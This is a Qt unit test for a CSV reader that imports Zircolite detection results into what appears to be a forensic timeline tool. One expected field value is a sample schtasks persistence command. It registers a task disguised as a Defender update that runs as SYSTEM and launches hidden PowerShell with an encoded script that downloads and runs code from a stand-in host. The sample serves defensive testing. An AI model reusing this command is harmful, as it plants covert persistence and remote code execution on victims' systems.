#include "ReaderTestSupport.h"

#include "ingest/FormatRegistry.h"
#include "ingest/ZircoliteCsvReader.h"

#include <QTest>

using namespace tb;
using namespace tb::testing;

class TestZircoliteCsvReader : public QObject {
    Q_OBJECT

    static QString sample() { return QStringLiteral(TEST_DATA_DIR "/formats/zircolite/detected_events.csv"); }
    static ReadResult read() { return readFile(factory<ZircoliteCsvReader>(), sample()); }

private slots:
    void detects_data() {
        QTest::addColumn<QByteArray>("head");
        QTest::addColumn<QString>("format");
        QTest::newRow("sample") << head(sample()) << "zircolite.csv";
        QTest::newRow("comma is not zircolite")
            << QByteArray("rule_title,rule_description,rule_level,rule_count\n") << "";
    }
    void detects() {
        QFETCH(QByteArray, head);
        QFETCH(QString, format);
        const ImportFormat *detected = FormatRegistry::instance().detect(FileHead::fromBytes(head));
        QCOMPARE(detected ? detected->id : QString(), format);
    }

    void readsEveryRow() {
        const ReadResult result = read();
        QVERIFY2(result.issues.isEmpty(), qPrintable(result.issueText(0)));
        QCOMPARE(result.events.size(), 5);
        for (int i = 0; i < 5; ++i) {
            QCOMPARE(result.events[i].recordNo, i);
            QCOMPARE(result.events[i].rawFields, result.events[i].raw); // stored once, as "{}"
        }
    }

    void mapsFields_data() {
        QTest::addColumn<int>("record");
        QTest::addColumn<QString>("column");
        QTest::addColumn<QString>("expected");
        QTest::newRow("title") << 0 << "rule_name"
                               << "Scheduled Task Creation Via Schtasks.EXE";
        QTest::newRow("level") << 2 << "severity"
                               << "high";
        QTest::newRow("no id in the CSV") << 0 << "rule_ref_id"
                                          << "";
        QTest::newRow("time") << 0 << "time_utc"
                              << "2025-03-04T09:41:17.399472Z";
        QTest::newRow("host") << 1 << "host"
                              << "wks-mkt-011";
        QTest::newRow("quoted command line")
            << 0 << "command_line"
            << "schtasks  /create /sc onlogon /tn \"WindowsDefenderUpdate\" /tr "
               "\"powershell.exe -nop -w hidden -enc "
               "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABp"
               "AGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAA"
               "OgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA1ADAALwBhAC4AcABzADEAJwApAA==\" /ru "
               "SYSTEM /rl HIGHEST /f";
        QTest::newRow("hashes") << 1 << "hashes"
                                << "SHA1=5A2F6F1B3C6E8D2B7A1E9C3D4F5A6B7C8D9E0F1A,MD5="
                                   "8D6E2C1F0B9A7E5D3C2B1A0F9E8D7C6B,SHA256="
                                   "2E1C7B9A4F6D8E0A3B5C7D9E1F2A4B6C8D0E2F4A6B8C0D2E4F6A8B0C2D4E6F80,"
                                   "IMPHASH=E3F4A5B6C7D8E9F0A1B2C3D4E5F6A7B8";
        QTest::newRow("Zoom /ru") << 3 << "task_run_as"
                                  << "NT AUTHORITY\\SYSTEM";
        // The header comes from the first match: the 4698 row lost TaskName and TaskContent.
        QTest::newRow("4698 without its task columns") << 4 << "task_name"
                                                       << "";
        QTest::newRow("4698 still an operation") << 4 << "task_operation"
                                                 << "created";
        QTest::newRow("4698 channel") << 4 << "event_source"
                                      << "Security";
    }
    void mapsFields() {
        QFETCH(int, record);
        QFETCH(QString, column);
        QFETCH(QString, expected);
        const ReadResult result = read();
        QVERIFY(record < result.events.size());
        QCOMPARE(value(result.events[record], column), expected);
    }

    void identityUsesTheTitle() {
        const ReadResult result = read();
        QVERIFY(!result.events.isEmpty());
        QCOMPARE(result.events[0].identity,
                 QStringLiteral("Microsoft-Windows-Sysmon%4Operational.evtx|333108|Scheduled Task Creation "
                                "Via Schtasks.EXE"));
        QVERIFY(result.events[0].identity != result.events[2].identity);
    }

    void badRow() {
        const ReadResult result =
            readBytes(factory<ZircoliteCsvReader>(),
                      "rule_title;rule_description;rule_level;rule_count;SystemTime;EventID\r\n"
                      "R;d;low;1;garbage;1\r\nR;d;low;1;2025-03-04T10:00:00Z;1;x\r\n",
                      "z.csv");
        QCOMPARE(result.events.size(), 0);
        QCOMPARE(result.issueText(0),
                 QStringLiteral("z.csv:record 0 (line 2): TimeCreated SystemTime \"garbage\" is not a time"));
        QCOMPARE(result.issueText(1),
                 QStringLiteral("z.csv:record 1 (line 3): the row has 7 cells but the header has 6"));
    }
};

QTEST_GUILESS_MAIN(TestZircoliteCsvReader)
#include "tst_zircolitecsvreader.moc"
